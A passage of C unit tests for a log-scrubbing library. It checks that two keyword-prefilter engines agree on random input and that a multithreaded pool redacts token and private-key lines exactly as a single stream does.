    static uint64_t wa[32], wb[32];

    scrub_prefilter_set_engine(b, SCRUB_PF_DFA);
    for (i = 0; i < sizeof(kws) / sizeof(kws[0]); i++) {
        scrub_prefilter_add(a, kws[i], strlen(kws[i]), (uint32_t)i);
        scrub_prefilter_add(b, kws[i], strlen(kws[i]), (uint32_t)i);
    }
    UT_CHECK(scrub_prefilter_build(a) == 0 && scrub_prefilter_build(b) == 0);
    sa = scrub_prefilter_scratch_new(a);
    sb = scrub_prefilter_scratch_new(b);
    for (i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
        memcpy(text + n, lines[i], strlen(lines[i]));
        n += strlen(lines[i]);
    }
    ka = scrub_prefilter_lines(a, sa, (const uint8_t *)text, n, la, 32, wa, 1, NULL);
    kb = scrub_prefilter_lines(b, sb, (const uint8_t *)text, n, lb, 32, wb, 1, NULL);
    UT_CHECK_INT(ka, kb);
    UT_CHECK_INT(kb, 9); /* every line but "nothing here" */
    for (q = 0; ka == kb && q < ka; q++) {
        UT_CHECK(la[q].start == lb[q].start && la[q].end == lb[q].end);
        UT_CHECK(la[q].bits[0] == lb[q].bits[0]);
    }
    /* "a mypassword b": pass (rules 0 and 7), password, mypassword, sword, sswo */
    UT_CHECK(kb > 0 && lb[0].bits[0] == ((1u << 0) | (1u << 1) | (1u << 2) | (1u << 3) |
                                         (1u << 7) | (1u << 8)));
    scrub_prefilter_scratch_destroy(sa);
    scrub_prefilter_scratch_destroy(sb);
    scrub_prefilter_destroy(a);
    scrub_prefilter_destroy(b);
}

/* The Vectorscan engine (when built in) and the DFA agree on every buffer. */
UT_TEST(prefilter_engines_agree)
{
    unsigned seed = 99;
    int round;

    for (round = 0; round < 40; round++) {
        scrub_prefilter_t *a = scrub_prefilter_new(), *b = scrub_prefilter_new();
        scrub_pf_scratch_t *sa, *sb;
        char text[2000];
        int i, k;
        scrub_prefilter_set_engine(b, SCRUB_PF_DFA);
        for (k = 0; k < 40; k++) {
            char kw[8];
            /* some one-byte keywords: literals the planner indexes by one byte */
            int len = k % 16 == 15 ? 1 : 2 + (int)(rand_r(&seed) % 5);
            for (i = 0; i < len; i++) {
                kw[i] = "abcdeXYZ_$%{\\~&"[rand_r(&seed) % 15];
            }
            scrub_prefilter_add(a, kw, (size_t)len, (uint32_t)k);
            scrub_prefilter_add(b, kw, (size_t)len, (uint32_t)k);
        }
        UT_CHECK(scrub_prefilter_build(a) == 0 && scrub_prefilter_build(b) == 0);
        UT_CHECK(strcmp(scrub_prefilter_engine_name(b), "dfa") == 0);
        sa = scrub_prefilter_scratch_new(a);
        sb = scrub_prefilter_scratch_new(b);
        for (i = 0; i < (int)sizeof(text); i++) {
            text[i] = "abcdexyzABCDE_$%{}\\\n ~&"[rand_r(&seed) % 24];
        }
        {
            size_t pos = 0, n = sizeof(text);
            uint64_t ba = 0, bb = 0;
            while (pos < n) {
                size_t ha = scrub_prefilter_find(a, sa, (const uint8_t *)text, pos, n);
                size_t hb = scrub_prefilter_find(b, sb, (const uint8_t *)text, pos, n);
                const char *nl;
                UT_CHECK_INT(ha, hb);
                if (hb >= n) {
                    break;
                }
                nl = memchr(text + hb, '\n', n - hb);
                pos = nl ? (size_t)(nl - text) + 1 : n;
            }
            {
                scrub_span_t la[1000], lb[1000];
                static uint64_t wa[1000], wb[1000];
                size_t ka = scrub_prefilter_lines(a, sa, (const uint8_t *)text, n, la, 1000, wa, 1,
                                                  NULL);
                size_t kb = scrub_prefilter_lines(b, sb, (const uint8_t *)text, n, lb, 1000, wb, 1,
                                                  NULL);
                size_t q;
                UT_CHECK_INT(ka, kb);
                for (q = 0; ka == kb && ka != (size_t)-1 && q < ka; q++) {
                    UT_CHECK(la[q].start == lb[q].start && la[q].end == lb[q].end);
                    /* merged keywords are checked at each hit: the same rules, exactly */
                    UT_CHECK(la[q].bits[0] == lb[q].bits[0]);
                }
                /* a full spans[] is resumed after its last line: batches of 3
                 * give the same lines and rules as one call, on both engines */
                for (q = 0; q < 2 && ka < 1000; q++) {
                    scrub_prefilter_t *e = q == 0 ? a : b;
                    scrub_pf_scratch_t *se = q == 0 ? sa : sb;
                    scrub_span_t sp[3];
                    uint64_t w3[3];
                    size_t at = 0, got = 0, j, kk;
                    do {
                        kk = scrub_prefilter_lines(e, se, (const uint8_t *)text + at, n - at, sp,
                                                   3, w3, 1, NULL);
                        UT_CHECK(kk <= 3);
                        for (j = 0; kk <= 3 && j < kk && got < ka; j++, got++) {
                            UT_CHECK(sp[j].start + at == la[got].start &&
                                     sp[j].end + at == la[got].end);
                            UT_CHECK(sp[j].bits[0] == la[got].bits[0]);
                        }
                        at = kk == 3 ? at + sp[2].end : n;
                    } while (kk == 3 && at < n);
                    UT_CHECK_INT(got, ka);
                }
            }
            scrub_prefilter_collect(a, sa, (const uint8_t *)text, n, &ba);
            scrub_prefilter_collect(b, sb, (const uint8_t *)text, n, &bb);
            UT_CHECK(ba == bb);
        }
        scrub_prefilter_scratch_destroy(sa);
        scrub_prefilter_scratch_destroy(sb);
        scrub_prefilter_destroy(a);
        scrub_prefilter_destroy(b);
    }
}

/* Run input through a pool of `threads` threads, reading `chunk` bytes at a time. */
static void run_pool(scrub_ruleset_t *rs, unsigned threads, const uint8_t *in, size_t n,
                     size_t chunk, capture_t *cap, scrub_counts_t *counts)
{
    scrub_stats_t *st = scrub_stats_new(rs);
    scrub_sink_ops_t ops = {cap_clean, cap_quar, NULL, cap, NULL, NULL};
    scrub_pool_t *pl = scrub_pool_new(rs, threads, &ops, st);
    size_t pos = 0;

    scrub_buf_init(&cap->out, 0);
    scrub_buf_init(&cap->quar, 0);
    UT_CHECK(pl != NULL);
    if (pl == NULL) {
        scrub_stats_destroy(st);
        return;
    }
    scrub_pool_set_origin(pl, "t");
    while (pos < n) {
        size_t room;
        uint8_t *p = scrub_pool_buffer(pl, &room);
        size_t k = n - pos < chunk ? n - pos : chunk;
        if (k > room) {
            k = room;
        }
        memcpy(p, in + pos, k);
        UT_CHECK(scrub_pool_commit(pl, k) == 0);
        pos += k;
    }
    UT_CHECK(scrub_pool_finish(pl) == 0);
    scrub_pool_merge_stats(pl);
    *counts = *scrub_stats_counts(st);
    scrub_pool_destroy(pl);
    scrub_stats_destroy(st);
}

/* Property: the thread pool writes exactly what one stream writes, in order,
 * with the same counts, for inputs with secrets, quarantines and oversized lines. */
UT_TEST(pool_matches_stream)
{
    char err[512];
    scrub_ruleset_t *rs = NULL;
    char path[] = "/tmp/logscrub-ut-pool-XXXXXX";
    int fd = mkstemp(path);
    FILE *fp = fdopen(fd, "w");
    unsigned seed = 777;
    int round;

    fputs("limits:\n  max_record: 300\nrules:\n"
          "  - id: tok\n    regex: 'tok_([a-z0-9]{6,})'\n    keywords: [tok_]\n    secret_group: 1\n"
          "  - id: q\n    regex: 'QQQ'\n    keywords: [qqq]\n    action: quarantine\n"
          "  - id: d\n    regex: 'DROPME'\n    keywords: [dropme]\n    action: drop\n"
          "  - id: pk\n    regex: '(-----BEGIN RSA PRIVATE KEY-----)'\n    keywords: ['-----begin']\n"
          "    secret_group: 1\n    action: tag\n",
          fp);
    fclose(fp);
    UT_CHECK(scrub_ruleset_load(path, NULL, &rs, err, sizeof(err)) == 0);
    remove(path);
    if (rs == NULL) {
        return;
    }
    for (round = 0; round < 30; round++) {
        size_t n = 0, cap = 3u << 20;
        uint8_t *in = malloc(cap);
        capture_t a, b;
        scrub_counts_t ca, cb;
        memset(&cb, 0, sizeof(cb));
        if (round % 5 == 1) {
            /* a record longer than a pool block: it reaches the quarantine in pieces */
            memset(in + 100, 'z', 2500000);
            memset(in, 'y', 99);
            in[99] = '\n';
            n = 2500100;
            in[n++] = '\n';
        }
        while (n < cap - 4000) {
            unsigned r = (unsigned)rand_r(&seed) % 100;
            size_t len = r < 2 ? 300 + (size_t)(rand_r(&seed) % 3000) : (size_t)(rand_r(&seed) % 120);
            size_t i;
            for (i = 0; i < len; i++) {
                in[n + i] = (uint8_t)('a' + rand_r(&seed) % 26);
            }
            if (r == 10) {
                /* a multi-line private key: its body lines must be redacted wherever blocks split */
                static const char pem[] = "x -----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq8"
                                          "abcdefghijklmnop\nQWERTYUIOPasdfgh0123456789+/\n"
                                          "-----END RSA PRIVATE KEY-----";
                memcpy(in + n, pem, sizeof(pem) - 1);
                len = sizeof(pem) - 1;
            }
            else if (r >= 2 && r < 10 && len > 20) {
                memcpy(in + n + 3, r < 6 ? "tok_abc123" : r < 8 ? "QQQ" : "DROPME", r < 6 ? 10 : r < 8 ? 3 : 6);
            }
            n += len;
            in[n++] = '\n';
            if (round > 5 && (size_t)(rand_r(&seed) % 2000) == 0) {
                break;
            }
        }
        if (round % 3 == 0) {
            n--; /* no final newline */
        }
        run_stream(rs, in, n, 65536, &a, &ca);
        run_pool(rs, 1 + (unsigned)(round % 3), in, n, 1 + (size_t)(rand_r(&seed) % 200000), &b, &cb);
        UT_CHECK(a.out.len == b.out.len && memcmp(a.out.data, b.out.data, a.out.len) == 0);
        UT_CHECK(a.quar.len == b.quar.len && memcmp(a.quar.data, b.quar.data, a.quar.len) == 0);
        UT_CHECK(!out_holds(&b, "QWERTYUIOP"));
        UT_CHECK_INT(cb.records_in, ca.records_in);
        UT_CHECK_INT(cb.quarantined, ca.quarantined);
        UT_CHECK_INT(cb.dropped, ca.dropped);
        UT_CHECK_INT(cb.failed_closed, ca.failed_closed);
        UT_CHECK(cb.records_in == cb.clean + cb.quarantined + cb.dropped);
        capture_free(&a);
        capture_free(&b);
        free(in);
    }
    scrub_ruleset_unref(rs);
}
